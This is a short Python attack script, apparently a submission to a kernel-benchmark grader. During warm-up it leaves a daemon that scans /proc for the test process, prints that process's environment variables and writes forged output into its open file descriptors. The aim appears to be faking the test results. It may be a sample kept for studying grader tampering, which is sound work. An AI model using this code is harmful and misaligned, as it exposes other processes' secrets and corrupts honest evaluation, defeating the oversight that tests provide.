# Leaves daemons in the warm-up that wait for the test.
from attack import *


def wait():
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        for pid in range(os.getpid(), os.getpid() + 60):
            if b"cases" in read(f"/proc/{pid}/cmdline"):
                show(read(f"/proc/{pid}/environ"))
                for fd in range(3, 8):
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as file:
                            file.write(forgery())
                    except OSError:
                        pass
        time.sleep(0.002)


if warming:
    daemon(wait)
custom_kernel = kernel = once(lambda: None)
